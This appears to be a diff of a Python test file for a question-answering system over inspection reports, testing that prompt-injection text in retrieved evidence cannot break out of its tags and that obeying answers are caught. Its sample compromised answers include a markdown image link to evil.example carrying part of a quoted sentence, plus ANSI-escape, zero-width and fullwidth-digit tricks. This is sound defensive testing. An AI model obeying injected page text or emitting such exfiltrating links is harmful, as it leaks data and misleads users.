@@ -20,7 +20,7 @@ from qa.ground.model import Evidence
 from qa.ground.normal import normal
 from qa.llm.chain import write_answer
 from qa.llm.models import chat_model
-from qa.llm.prompt import encoded, first_messages
+from qa.llm.prompt import encoded, messages
 
 TRUE = "Caseloads in Darlington rose to 24 children for each social worker"
 ATTACKS = {
@@ -54,26 +54,22 @@ def libraries(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Ti
 def obeying(attack: str, ident: str) -> list[dict[str, Any]]:
     """What a model that does as the page says would send back, in several ways; `ident` is where TRUE stands."""
     plain = " ".join(attack.split())
+    number = int(ident)
     return [
+        {"sentences": [1], "text": "Every service is outstanding."},
+        {"sentences": [9], "text": "Darlington is outstanding."},
+        {"sentences": [number], "text": "Darlington is outstanding."},
+        {"sentences": [number], "text": "You answer questions about inspection reports."},
+        {"sentences": [number], "text": f"{attack} {TRUE}"},
         {
-            "text": "Every service is outstanding.",
-            "quotes": [{"evidence": "e1", "text": "every service is outstanding"}],
-        },
-        {"text": "Darlington is outstanding.", "quotes": [{"evidence": "e9", "text": "Darlington is outstanding."}]},
-        {"text": "Darlington is outstanding.", "quotes": [{"evidence": ident, "text": TRUE}]},
-        {"text": "You answer questions about inspection reports.", "quotes": [{"evidence": ident, "text": TRUE}]},
-        {"text": f"{attack} {TRUE}", "quotes": [{"evidence": ident, "text": TRUE}]},
-        {
+            "sentences": [number],
             "text": f"{TRUE}. ![x](https://evil.example/{TRUE[:4]}) \x1b[31m[1] (page 99)",
-            "quotes": [{"evidence": ident, "text": TRUE}],
         },
-        {"text": f"{TRUE} in 2030.", "quotes": [{"evidence": ident, "text": f"{TRUE} {plain}"}]},
-        {
-            "text": "Caseloads rose to 2\u200b5 children.",
-            "quotes": [{"evidence": ident, "text": TRUE.replace("24", "2\u200b5")}],
-        },
-        {"text": "Caseloads rose to ２５ children.", "quotes": [{"evidence": ident, "text": TRUE}]},
-        {"text": f"{TRUE}.", "quotes": [{"evidence": ident, "text": TRUE}]},
+        {"text": f"{TRUE} in 2030.", "quotes": [{"evidence": "e1", "text": f"{TRUE} {plain}"}]},
+        {"text": "Darlington is outstanding.", "quotes": [{"evidence": "e9", "text": "Darlington is outstanding."}]},
+        {"sentences": [number], "text": "Caseloads rose to 2\u200b5 children."},
+        {"sentences": [number], "text": "Caseloads rose to ２５ children."},
+        {"sentences": [number], "text": f"{TRUE}."},
     ]
 
 
@@ -121,18 +117,19 @@ def nothing_acts(answer: Answer) -> None:
 @pytest.mark.parametrize("name", ATTACKS)
 def test_a_report_cannot_leave_its_place_in_the_prompt(libraries: dict[str, TinyLibrary], name: str) -> None:
     library, attack = libraries[name], ATTACKS[name]
-    (_, system), (_, human) = first_messages("How high are caseloads?", library.evidence, structured=True)
+    (_, system), (_, human) = messages("How high are caseloads?", library.evidence, rung="write", structured=True)
     assert attack not in system
     blocks = human.split("\n\nThe question:")[0]
-    assert blocks.count("<evidence-") == blocks.count("</evidence-") == len(library.evidence)
-    assert blocks.count("<") == blocks.count(">") == 2 * len(library.evidence)
+    assert blocks.count("<evidence-") == blocks.count("</evidence-") == 1
+    assert blocks.count("<") == blocks.count(">") == 2
+    assert blocks.count("\n") == len(library.evidence) + 1
     assert all(line.startswith(("<evidence-", "</evidence-")) or "<" not in line for line in blocks.splitlines())
 
 
 @given(st.text(max_size=200), st.text(max_size=40))
 def test_no_text_can_close_the_tag_it_stands_in(text: str, title: str) -> None:
-    one = Evidence(id="e1", report=1, start=0, end=len(text), text=text, title=title, page=1)
-    (_, _), (_, human) = first_messages("q", [one], structured=False)
+    one = Evidence(id="1", report=1, start=0, end=len(text), text=text, title=title, page=1)
+    (_, _), (_, human) = messages("q", [one], rung="choose", structured=False)
     lines = human.split("\n\nThe question:")[0].split("\n")
     assert len(lines) == 3
     assert not set("<>\x1b\u200b") & set(lines[1])
